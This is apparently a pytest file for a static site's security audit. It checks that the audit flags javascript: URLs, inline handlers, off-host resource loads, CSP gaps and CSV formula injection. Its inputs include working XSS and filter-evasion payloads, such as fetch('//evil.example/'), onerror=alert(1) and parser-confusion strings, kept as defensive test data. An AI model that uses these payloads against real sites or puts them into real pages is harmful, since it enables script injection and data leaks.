"""The site audit (roadmap/audit.py): each kind of unsafe output is found and named with its file;
the real built site has none."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from roadmap import audit
from roadmap.audit_policy import POLICY

SITE_URL = "https://alianza-pacifico-mipymes.github.io/hoja-de-ruta/"
CSP = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
# a page as the templates write it: the site's policy first in <head>
PAGE = "<!doctype html><html><head><meta charset=utf-8>" + CSP + "{head}</head><body>{body}</body></html>"


def findings(tmp_path: Path, files: dict[str, str]) -> list[str]:
    for name, content in files.items():
        path = tmp_path / "site" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    return [str(f) for f in audit.audit(tmp_path / "site", SITE_URL)]


@pytest.mark.parametrize("body,found", [
    ('<a href="javascript:alert(1)">x</a>', "javascript: URL in <a href>"),
    ('<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>', "javascript: URL in <a href>"),
    ('<a href="data:text/html,hi">x</a>', "data: URL in <a href>"),
    ('<form action="vbscript:x"></form>', "vbscript: URL in <form action>"),
    ('<iframe src="data:text/html,x"></iframe>', "data: URL in <iframe src>"),
    ('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', "javascript: URL in <meta content>"),
    ('<strong onmouseover="alert(1)">x</strong>', "inline event handler onmouseover= on <strong>"),
    ('<svg><g onload="x"></g></svg>', "inline event handler onload= on <g>"),
    ('<img src="https://tracker.example.com/p.png" alt="">', "resource from another host in <img src>: 'https://tracker.example.com/p.png'"),
    ('<img srcset="a.png 1x, //cdn.example/b.png 2x" alt="">', "resource from another host in <img srcset>: '//cdn.example/b.png'"),
    ('<script src="https://cdn.example/x.js"></script>', "resource from another host in <script src>"),
    ('<link rel="stylesheet" href="https://fonts.example/css">', "resource from another host in <link href>"),
    ('<video poster="http://other.example/p.jpg"></video>', "resource from another host in <video poster>"),
    ('<p style="background: url(https://tracker.example/p.png)">x</p>', "resource from another host in CSS"),
    ('<style>@import "https://other.example/x.css";</style>', "resource from another host in CSS"),
])
def test_each_kind_of_unsafe_html_is_found_and_named(tmp_path: Path, body: str, found: str) -> None:
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result


# the hostile review's inputs: what a browser fetches from another host though the URL hides it
@pytest.mark.parametrize("body,found", [
    ('<img src="/\\evil.example/a.png" alt="">', "resource from another host in <img src>"),
    ('<img src="/\n/evil.example/b.png" alt="">', "resource from another host in <img src>"),
    ('<img src=" \t//evil.example/b.png " alt="">', "resource from another host in <img src>"),
    ('<img src="https:\\\\evil.example\\b.png" alt="">', "resource from another host in <img src>"),
    ('<svg><script href="https://evil.example/c.js"></script></svg>', "resource from another host in <script href>"),
    ('<svg><script xlink:href="//evil.example/c.js"></script></svg>', "resource from another host in <script xlink:href>"),
    ('<svg><image href="https://evil.example/i.png"/></svg>', "resource from another host in <image href>"),
    ('<iframe srcdoc="&lt;script src=https://evil.example/d.js&gt;&lt;/script&gt;"></iframe>',
     "in <iframe srcdoc>: resource from another host in <script src>"),
    ('<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;img src=//evil.example/x.png&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>',
     "in <iframe srcdoc>: in <iframe srcdoc>: resource from another host in <img src>"),
    ('<base href="https://evil.example/">', "<base> element"),
    ('<p style="background: u\\72 l(https://evil.example/e.png)">x</p>', "resource from another host in CSS"),
    ('<style>p { background: \\75 \\72 \\6c (//evil.example/e.png) }</style>', "resource from another host in CSS"),
    ('<style>p { background-image: image-set("https://evil.example/f.png" 1x) }</style>', "resource from another host in CSS"),
    # (inside an unquoted url( ) a comment is part of the URL: Chromium fetches this one from the site)
    ('<style>p { background: /* x */url(https://evil.example/g.png) }</style>', "resource from another host in CSS"),
    ('<style>@\\69mport "https://evil.example/h.css";</style>', "resource from another host in CSS"),
    ('<meta http-equiv="refresh" content="0; url = https://evil.example/">', "resource from another host in <meta content>"),
    ('<meta http-equiv="Refresh" content="0,\'https://evil.example/\'">', "resource from another host in <meta content>"),
], ids=lambda v: v[:40] if isinstance(v, str) else v)
def test_a_resource_from_another_host_is_found_however_its_url_is_written(tmp_path: Path, body: str, found: str) -> None:
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result


# The audit reads the tree a browser builds (Lexbor, an HTML5 parser): these differ from a naive
# tokenizer's reading, and each must still be found.
@pytest.mark.parametrize("body,found", [
    # a template's content is a separate fragment: inert until a script clones it, audited anyway
    ('<template><img src="https://evil.example/t.png" alt=""></template>', "in <template>: resource from another host in <img src>"),
    ('<template id="a&gt;b"><template><a href="javascript:x">y</a></template></template>',
     "in <template>: in <template>: javascript: URL in <a href>"),
    # SVG's camel-case elements (feImage, linearGradient), matched whatever their case
    ('<svg><filter><feImage href="https://evil.example/f.svg"/></filter></svg>', "resource from another host in <feimage href>"),
    ('<svg><linearGradient xlink:href="https://evil.example/g.svg#x"/></svg>', "resource from another host in <lineargradient xlink:href>"),
    # a browser keeps the first of two attributes of one name: the first is what loads
    ('<img src="https://evil.example/d.png" src="ok.png" alt="">', "resource from another host in <img src>"),
    # an unclosed attribute quote swallows what follows, as in a browser: the handler is real
    ('<p title=\'x><img src=a onerror=alert(1)>\' onclick=y>z</p>', "inline event handler onclick= on <p>"),
], ids=lambda v: v[:40] if isinstance(v, str) else v)
def test_the_audit_reads_html_as_a_browser_does(tmp_path: Path, body: str, found: str) -> None:
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result


def test_noscript_content_is_audited_for_readers_without_javascript(tmp_path: Path) -> None:
    # with JavaScript on, a browser reads <noscript> as text; with it off, as markup that loads
    body = '<noscript><img src="https://evil.example/ns.png" alt=""></noscript>'
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert result == ["en/page/index.html: in <noscript>: resource from another host in <img src>: 'https://evil.example/ns.png'"]


def test_what_a_browser_ignores_is_not_a_finding(tmp_path: Path) -> None:
    # the second src is dropped by the browser (first attribute wins); a comment loads nothing
    body = '<img src="ok.png" src="https://evil.example/ignored.png" alt=""><!-- <img src="https://evil.example/c.png"> -->'
    assert findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)}) == []


def test_relative_urls_resolve_against_the_page_on_the_site(tmp_path: Path) -> None:
    body = ('<img src="../../assets/a.png" alt=""> <img src="/hoja-de-ruta/b.png" alt=""> '
            '<img src="c.png" alt=""> <svg><use href="#icon"/></svg> <a href="/\\other.example/">a link, not a load</a>')
    assert findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)}) == []


@pytest.mark.parametrize("body", [
    '<a href="https://example.org/elsewhere">a link to another site is fine</a>',
    '<a href="mailto:x@example.org">mail</a> <a href="../objetivos/">relative</a> <a href="#top">anchor</a>',
    '<img src="../assets/logo.svg" alt=""> <img src="https://alianza-pacifico-mipymes.github.io/hoja-de-ruta/x.png" alt="">',
    # a link to another host that no script follows (an alternate to another host is a fetch: Material's)
    '<link rel="canonical" href="https://x.example/"> <link rel="alternate" href="../en/">',
    '<p>javascript: written as text, onclick= as text</p>',
])
def test_safe_html_passes(tmp_path: Path, body: str) -> None:
    assert findings(tmp_path, {"index.html": PAGE.format(head="", body=body)}) == []


def test_feeds_must_be_well_formed(tmp_path: Path) -> None:
    result = findings(tmp_path, {"en/cambios.xml": "<feed><title>a\x01b</title></feed>", "sitemap.xml": "<urlset></urlset>"})
    assert len(result) == 1 and result[0].startswith("en/cambios.xml: not well-formed XML")


def test_downloads_must_be_valid(tmp_path: Path) -> None:
    result = findings(tmp_path, {
        "datos/objetivos.json": json.dumps({"language": "es"}),
        "en/datos/objetivos.csv": "\ufeffid,title\r\nx,=HYPERLINK(\"https://evil.example\")\r\ny\r\n",
        "datos/broken.json": "{",
    })
    assert any(r.startswith("datos/objetivos.json: does not match data/objectives.export.schema.json") for r in result)
    assert "en/datos/objetivos.csv: row 2: a cell starts like a spreadsheet formula: '=HYPERLINK(\"https://evil.example\")'" in result
    assert "en/datos/objetivos.csv: row 3 has 1 cells, the header 2" in result
    assert any(r.startswith("datos/broken.json: not valid JSON") for r in result)


def test_the_cli_fails_naming_the_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    findings(tmp_path, {"x/index.html": PAGE.format(head="", body='<a href="javascript:x">y</a>')})
    assert audit.main([str(tmp_path / "site")]) == 1
    assert f"{tmp_path / 'site'}/x/index.html: javascript: URL in <a href>" in capsys.readouterr().out


@pytest.mark.build
def test_the_real_site_passes_the_audit(built_site: Path) -> None:
    assert audit.audit(built_site, SITE_URL) == []
    assert len(list(built_site.rglob("*.html"))) > 50  # the audit saw the pages


def test_the_cli_on_a_missing_folder_says_so_without_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert audit.main([str(tmp_path / "nowhere")]) == 2
    err = capsys.readouterr().err
    assert "is not a folder of a built site" in err and "Traceback" not in err


def test_the_audit_finds_the_same_in_parallel_as_in_one_process(tmp_path: Path) -> None:
    # a site big enough to be shared among processes, with a finding in some files of each kind
    # every page also loads an image from the site's own host: each process must know it
    own = '<img src="https://alianza-pacifico-mipymes.github.io/hoja-de-ruta/x.png" alt="">'
    files = {f"p{i:03d}/index.html": PAGE.format(head="", body=f'{own}<a href="{"javascript:x" if i % 97 == 0 else "../ok/"}">{i}</a>')
             for i in range(audit.PARALLEL_FROM)}
    files |= {"datos/objetivos.csv": "id,title\r\nx,=1+1\r\n", "cambios.xml": "<feed>", "a.css": "p{background:url(//evil.example/x)}"}
    for name, content in files.items():
        path = tmp_path / "site" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    alone = audit.audit(tmp_path / "site", SITE_URL, workers=1)
    assert len(alone) == 9 and alone == sorted(alone)  # 6 pages, the CSV, the feed, the style sheet
    assert audit.audit(tmp_path / "site", SITE_URL, workers=2) == alone
    assert audit.audit(tmp_path / "site", SITE_URL) == alone  # the default, at this size: one per core


def test_a_cached_audit_reads_only_changed_files_and_finds_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue #21: the build's audit keeps its verdict on each file (roadmap/audit_cache.py) and
    reads again only a file whose bytes, name or address it has not audited."""
    monkeypatch.setenv("ROADMAP_CACHE_DIR", str(tmp_path / "cache"))
    site = tmp_path / "site"
    files = {"a/index.html": PAGE.format(head="", body='<a href="javascript:x">a</a>'),
             "b/index.html": PAGE.format(head="", body='<a href="../a/">b</a>'),
             "x.css": "p{background:url(//evil.example/x)}", "feed.xml": "<feed>"}
    for name, content in files.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(content, encoding="utf-8")
    read: list[str] = []
    check = audit._check_file

    def counted(site: Path, name: str, base: str) -> list[str]:
        read.append(name)
        return check(site, name, base)

    monkeypatch.setattr(audit, "_check_file", counted)
    fresh = audit.audit(site, SITE_URL, workers=1)
    assert len(fresh) == 3 and fresh == audit.audit(site, SITE_URL, workers=1, cache=True)
    assert sorted(read) == sorted(list(files) * 2)
    read.clear()
    assert audit.audit(site, SITE_URL, workers=1, cache=True) == fresh and read == []  # nothing read again
    (site / "x.css").write_text("p{background:url(../img.png)}", encoding="utf-8")  # fixed
    (site / "b/index.html").write_text(PAGE.format(head="", body='<img src="//evil.example/p.png" alt="">'), encoding="utf-8")
    again = [str(f) for f in audit.audit(site, SITE_URL, workers=1, cache=True)]
    assert sorted(read) == ["b/index.html", "x.css"]
    assert again == [str(f) for f in audit.audit(site, SITE_URL, workers=1)]
    assert "x.css" not in " ".join(again) and any(f.startswith("b/index.html: resource from another host") for f in again)
    # another site address: every verdict depends on it, so every file is read again
    read.clear()
    audit.audit(site, "https://elsewhere.example/", workers=1, cache=True)
    assert sorted(read) == sorted(files)


def test_a_cached_page_is_read_again_when_a_script_it_loads_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A page's <script src> is judged by the file it loads (the theme's, byte for byte): a page
    audited before is read again when a script file of the site changes, and the script too."""
    import shutil

    from roadmap.audit_policy import _digest, material_templates

    monkeypatch.setenv("ROADMAP_CACHE_DIR", str(tmp_path / "cache"))
    theme = material_templates()
    assert theme is not None
    bundle = next((theme / "assets" / "javascripts").glob("bundle.*.min.js")).relative_to(theme).as_posix()
    site = tmp_path / "site"
    (site / bundle).parent.mkdir(parents=True)
    shutil.copyfile(theme / bundle, site / bundle)
    (site / "index.html").write_text(PAGE.format(head=f'<script src="{bundle}"></script>', body="x"), encoding="utf-8")
    assert audit.audit(site, SITE_URL, workers=1, cache=True) == []
    assert audit.audit(site, SITE_URL, workers=1, cache=True) == []  # from the verdicts
    (site / bundle).write_bytes((theme / bundle).read_bytes() + b"\nfetch('https://evil.example/')")
    _digest.cache_clear()  # a new build is a new process: the files' digests are read again
    found = {f.file for f in audit.audit(site, SITE_URL, workers=1, cache=True)}
    assert found == {"index.html", bundle} == {f.file for f in audit.audit(site, SITE_URL, workers=1)}


# The second hostile review: each input made Chromium 156 fetch from evil.example or run script
# while the audit reported nothing.
@pytest.mark.parametrize("body,found", [
    # a browser runs scripts, so <noscript> is raw text: the "attribute" below is a real img
    ('<noscript><p title="</noscript><img src=//evil.example/n.png alt=x>"></p></noscript>', "resource from another host in <img src>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "inline event handler onerror= on <img>"),
    # CSS read as a browser tokenises it: /* in a string is no comment, ) in a string ends no url(
    ('<style>p::before{content:"/*"} body{background:url(//evil.example/c.png)} p::after{content:"*/"}</style>', "resource from another host in CSS"),
    ('<style>body{background:url("//evil.example/a)b.png")}</style>', "resource from another host in CSS"),
    ('<style>@import"//evil.example/i.css";</style>', "resource from another host in CSS"),
    ('<style>body{background:image-set("//evil.example/s.png" 1x, linear-gradient(rgb(calc(1) 0 0), red) 2x)}</style>', "resource from another host in CSS"),
    # a refresh URL in an unclosed quote runs to the end; one in closed quotes ignores what follows
    ("<meta http-equiv=refresh content=\"0;url='//evil.example/r'x\">", "resource from another host in <meta content>"),
    ("<meta http-equiv=refresh content=\"0;url='//evil.example/r\">", "resource from another host in <meta content>"),
    # SVG animation sets the href it animates; presentation attributes take url() references
    ('<svg><image href="ok.png"><set attributeName="href" to="//evil.example/s.png"/></image></svg>', "resource from another host in <set to>"),
    ('<svg><image href="ok.png"><animate attributeName="href" values="ok.png;//evil.example/a.png"/></image></svg>', "resource from another host in <animate values>"),
    ('<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>', "javascript: URL in <set to>"),
    ('<svg><rect fill="url(//evil.example/f.svg#g)"/></svg>', "resource from another host in CSS"),
    ('<svg><rect clip-path="url(//evil.example/c.svg#c)"/></svg>', "resource from another host in CSS"),
    # a click on the link posts to its ping URL
    ('<a href="#x" ping="//evil.example/ping">x</a>', "resource from another host in <a ping>"),
    # link types Chromium fetches beyond the usual ones
    ('<link rel="compression-dictionary" href="//evil.example/d">', "resource from another host in <link href>"),
], ids=lambda v: v[:40] if isinstance(v, str) else v)
def test_the_second_hostile_review_inputs_are_found(tmp_path: Path, body: str, found: str) -> None:
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result


def test_a_page_in_utf16_is_read_as_the_browser_reads_it(tmp_path: Path) -> None:
    # a byte order mark outranks the server's charset=utf-8: Chromium decodes this as UTF-16
    path = tmp_path / "site" / "p.html"
    path.parent.mkdir()
    path.write_bytes(("\ufeff" + PAGE.format(head="", body='<img src="//evil.example/u.png" alt="">')).encode("utf-16-le"))
    assert [str(f) for f in audit.audit(tmp_path / "site", SITE_URL)] == ["p.html: resource from another host in <img src>: '//evil.example/u.png'"]


@pytest.mark.parametrize("name,content,found", [
    # documents a browser opens (directly, or in <object>/<iframe>) that run script and load resources
    ("assets/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "inline event handler onload= on <svg>"),
    ("assets/b.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="//evil.example/i.png"/></svg>',
     "resource from another host in <image xlink:href>"),
    ("assets/c.svg", '<!DOCTYPE svg [<!ENTITY e "<image href=\'//evil.example/e.png\'/>">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>',
     "resource from another host in <image href>"),
    ("b.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body><title><img src="//evil.example/x.png"/></title></body></html>',
     "resource from another host in <img src>"),
    ("c.xml", '<?xml-stylesheet type="text/css" href="//evil.example/pi.css"?><feed/>', "resource from another host in <?xml-stylesheet href>"),
    ("d.shtml", PAGE.format(head="", body='<img src="//evil.example/s.png" alt="">'), "resource from another host in <img src>"),
    ("assets/e.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x', "not well-formed XML"),
], ids=lambda v: v[:30] if isinstance(v, str) else v)
def test_every_document_a_browser_would_render_is_audited(tmp_path: Path, name: str, content: str, found: str) -> None:
    result = findings(tmp_path, {name: content})
    assert len(result) == 1 and result[0].startswith(f"{name}: {found}"), result


# Issue #18: what a pull request's pages and assets could still make a browser fetch or run.
@pytest.mark.parametrize("body,found", [
    # a background attribute loads an image on every table part, not only <table> and <td>
    *[(f'<table><{part} background="//evil.example/{part}.png"><tr><td>x</td></tr></{part}></table>',
       f"resource from another host in <{part} background>") for part in ("tbody", "thead", "tfoot")],
    ('<table><tr background="//evil.example/tr.png"><td>x</td></tr></table>', "resource from another host in <tr background>"),
    ('<table><tr><th background="//evil.example/th.png">x</th></tr></table>', "resource from another host in <th background>"),
    # a declarative shadow root's content is parsed in a template's context, where a <td> is a <td>
    ('<div><template shadowrootmode="open"><td background="//evil.example/s.png">x</td></template></div>',
     "in <template>: resource from another host in <td background>"),
    ('<div><template shadowrootmode="open"><template><img src="//evil.example/n.png" alt=""></template></template></div>',
     "in <template>: in <template>: resource from another host in <img src>"),
    # scripts: inline ones (whatever their type but JSON data), and in a srcdoc document
    ("<script>fetch('//evil.example/')</script>", "inline <script>"),
    ('<script type="module">import("//evil.example/m.js")</script>', "inline <script>"),
    ('<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["https://evil.example/"]}]}</script>',
     "inline <script>"),
    ('<script type="importmap">{"imports": {"x": "https://evil.example/x.js"}}</script>', "inline <script>"),
    ('<svg><script>alert(1)</script></svg>', "inline <script>"),
    ('<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', "in <iframe srcdoc>: inline <script>"),
    # a script of the site's own host that is not one of the site's scripts
    ('<script src="../assets/evil.js"></script>', "<script> loading a file that is not one of the site's scripts"),
    ('<script src="/hoja-de-ruta/assets/images/logo.png"></script>', "<script> loading a file that is not one of the site's scripts"),
    # markup the theme's own script turns into a request to another host
    ('<pre class="mermaid">graph TD; A-->B</pre>', '<pre class="mermaid">: the theme would load mermaid from unpkg.com'),
    ('<a href="https://github.com/x/y" data-md-component="source">repo</a>', 'data-md-component="source"'),
    ('<link rel="alternate" href="https://other.example/feed.xml">', "<link rel=alternate> to another host"),
], ids=lambda v: v[:40] if isinstance(v, str) else v)
def test_issue_18_markup_is_found(tmp_path: Path, body: str, found: str) -> None:
    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result


def test_json_data_blocks_and_the_sites_scripts_are_fine(tmp_path: Path) -> None:
    body = ('<script type="application/json" id="__config">{"a": 1}</script>'
            '<script type="application/ld+json">{"@context": "https://schema.org"}</script>'
            '<script src="../../assets/reader/theme.js" data-run="base"></script>'
            '<script src="../../assets/javascripts/explorer.js"></script>')
    files = {"en/page/index.html": PAGE.format(head="", body=body), "assets/reader/theme.js": "",
             "assets/javascripts/explorer.js": "", "pagefind/es/pagefind.js": "", "pagefind/en/pagefind-worker.js": ""}
    assert findings(tmp_path, files) == []


@pytest.mark.parametrize("page,found", [
    ("<!doctype html><html><head></head><body>x</body></html>", "no Content-Security-Policy <meta http-equiv> in <head>"),
    ("<!doctype html><html><head><script src='../assets/reader/theme.js'></script>" + CSP + "</head><body></body></html>",
     "<script> before the Content-Security-Policy <meta>"),
    ("<!doctype html><html><head><link rel=stylesheet href='a.css'>" + CSP + "</head><body></body></html>",
     "<link> before the Content-Security-Policy <meta>"),
    ("<!doctype html><html><head><meta http-equiv=Content-Security-Policy content=\"default-src *\"></head><body></body></html>",
     "Content-Security-Policy differs from the site's"),
    ("<!doctype html><html><head></head><body>" + CSP + "</body></html>", "Content-Security-Policy <meta> outside <head>"),
], ids=["missing", "script first", "style sheet first", "weaker", "in body"])
def test_every_page_carries_the_policy_first(tmp_path: Path, page: str, found: str) -> None:
    result = findings(tmp_path, {"p/index.html": page})
    assert len(result) == 1 and result[0].startswith("p/index.html: " + found), result


def test_the_policy_is_what_the_issue_asks(tmp_path: Path) -> None:
    directives = dict(part.strip().split(" ", 1) for part in POLICY.split(";"))
    assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
    assert directives["img-src"] == "'self' data:" and directives["form-action"] == "'self'"
    assert directives["base-uri"] in ("'self'", "'none'")
    assert not any("unsafe-inline" in value or "unsafe-eval" in value or "*" in value or "http" in value
                   for value in directives.values())


@pytest.mark.parametrize("name,content,found", [
    ("assets/x.js", "alert(1)", "a script file that is not one of the site's scripts"),
    ("assets/x.mjs", "export {}", "a script file that is not one of the site's scripts"),
    ("pagefind/es/evil.js", "alert(1)", "a script file that is not one of the site's scripts"),
    # a file named as one of the theme's scripts, with other bytes, is not the theme's
    ("assets/javascripts/bundle.a5f9d56c.min.js", "alert(1)", "a script file that is not one of the site's scripts"),
    ("assets/s.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script> in an SVG or XML document"),
    ("assets/f.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></foreignObject></svg>',
     "<script> in an SVG or XML document"),
    ("schema.xsd", '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><img xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x.png"/></xs:schema>',
     "resource from another host in <img src>"),
    ("grammar.rng", '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></grammar>',
     "<script> in an SVG or XML document"),
    ("raw.html", "<!doctype html><html><head></head><body><img src=x.png alt=''></body></html>", "no Content-Security-Policy"),
], ids=lambda v: v[:30] if isinstance(v, str) else v)
def test_script_files_and_more_documents_are_audited(tmp_path: Path, name: str, content: str, found: str) -> None:
    result = findings(tmp_path, {name: content})
    assert len(result) == 1 and result[0].startswith(f"{name}: {found}"), result


def test_a_compressed_svg_is_audited_unpacked(tmp_path: Path) -> None:
    import gzip
    site = tmp_path / "site"
    (site / "assets").mkdir(parents=True)
    (site / "assets" / "i.svgz").write_bytes(gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
    (site / "assets" / "bomb.svgz").write_bytes(gzip.compress(b" " * (audit.MAX_SVGZ + 10)))
    (site / "assets" / "plain.svgz").write_bytes(b"<svg/>")
    assert [str(f) for f in audit.audit(site, SITE_URL)] == [
        "assets/bomb.svgz: unpacks to more than 10 MB of SVG",
        "assets/i.svgz: inline event handler onload= on <svg>",
        "assets/plain.svgz: not a gzip-compressed SVG (Not a gzipped file (b'<s'))"]


def test_a_page_past_the_size_budget_is_a_finding(tmp_path: Path) -> None:
    filler = "<p>" + "x" * 1000 + "</p>"
    heavy = PAGE.format(head="", body=filler * (audit.MAX_PAGE_BYTES // 1000 + 10))
    light = PAGE.format(head="", body=filler * (audit.MAX_PAGE_BYTES // 1000 - 100))
    assert findings(tmp_path, {"heavy/index.html": heavy, "light/index.html": light}) == [
        "heavy/index.html: the page is 5.0 MB, past the 5 MB a page may weigh (a glossary term with a long definition "
        "is repeated wherever the term appears)"]


# the hostile review: a written page's raw HTML joining another part of a search index in parts
@pytest.mark.parametrize("attribute", ['data-pagefind-filter="part:1"', 'data-pagefind-filter="audience:x, Part: 2"',
                                       'data-pagefind-filter="part[data-n]"', "data-pagefind-filter='part'"])
def test_a_page_setting_the_search_part_filter_is_found(tmp_path: Path, attribute: str) -> None:
    result = findings(tmp_path, {"es/pagina/index.html": PAGE.format(head="", body=f"<p {attribute}>x</p>")})
    assert len(result) == 1 and result[0].startswith("es/pagina/index.html: data-pagefind-filter"), result


def test_other_search_filters_pass(tmp_path: Path) -> None:
    body = '<div data-pagefind-filter="audience:contributors"><p data-pagefind-filter="partner:x">x</p></div>'
    assert findings(tmp_path, {"es/pagina/index.html": PAGE.format(head="", body=body)}) == []


def parts_site(tmp_path: Path, merge: object, written: tuple[str, ...]) -> dict[str, str]:
    files = {"pagefind/es/roadmap-parts.json": json.dumps(merge)}
    files.update({f"pagefind/es/{part}pagefind-entry.json": "{}" for part in written})
    return files


@pytest.mark.parametrize("merge,written,found", [
    ({"merge": ["part-2/", "part-3/"]}, ("part-2/",), "search index part 'part-3/' is listed but has no pagefind-entry.json"),
    ({"merge": ["../../x/"]}, (), "search index part '../../x/' is not a folder named part-N/"),
    ({"merge": "part-2/"}, (), "not the list of the search index parts"),
    ([], (), "not the list of the search index parts"),
])
def test_a_search_index_part_listed_but_missing_is_found(tmp_path: Path, merge: object, written: tuple, found: str) -> None:
    result = findings(tmp_path, parts_site(tmp_path, merge, written))
    assert len(result) == 1 and result[0].startswith(f"pagefind/es/roadmap-parts.json: {found}"), result


def test_the_list_of_parts_is_read_again_though_its_bytes_were_audited_before(tmp_path: Path, monkeypatch) -> None:
    # a cached verdict on the list's bytes would hide a part gone missing since
    monkeypatch.setenv("ROADMAP_CACHE_DIR", str(tmp_path / "cache"))
    files = parts_site(tmp_path, {"merge": ["part-2/"]}, ("part-2/",))
    findings(tmp_path, files)
    site = tmp_path / "site"
    assert audit.audit(site, SITE_URL, cache=True) == []  # every verdict kept
    (site / "pagefind" / "es" / "part-2" / "pagefind-entry.json").unlink()
    again = [str(f) for f in audit.audit(site, SITE_URL, cache=True)]
    assert again == ["pagefind/es/roadmap-parts.json: search index part 'part-2/' is listed but has no "
                     "pagefind-entry.json: the index was not written whole"], again


# Pagefind reads tags as a tokenizer does (lol_html), building no tree: a tag the browser drops, or
# markup in a <textarea>, still sets the filter in the search index (tried with Pagefind 1.5.2)
@pytest.mark.parametrize("markup", ['<tr data-pagefind-filter="part:1"></tr>', '<caption data-pagefind-filter="part:1">x</caption>',
                                   '<form><form data-pagefind-filter="part:1"></form></form>', '<head data-pagefind-filter="part:1">',
                                   '<textarea><span data-pagefind-filter="part:1"></span></textarea>',
                                   '<col data-pagefind-filter=&#x70;art:1>'])
def test_a_search_part_filter_in_markup_the_browser_drops_is_found(tmp_path: Path, markup: str) -> None:
    result = findings(tmp_path, {"es/pagina/index.html": PAGE.format(head="", body=f"<p>x</p>{markup}")})
    assert len(result) == 1 and "in markup the browser drops" in result[0], result


def test_a_search_part_filter_shown_as_an_example_in_text_passes(tmp_path: Path) -> None:
    # text and comments are not tags, for Pagefind as for the browser: a contributors' page may
    # show the markup in a code span
    body = '<p><code>&lt;div data-pagefind-filter="part:1"&gt;</code></p><!-- data-pagefind-filter="part:2" -->'
    assert findings(tmp_path, {"es/pagina/index.html": PAGE.format(head="", body=body)}) == []
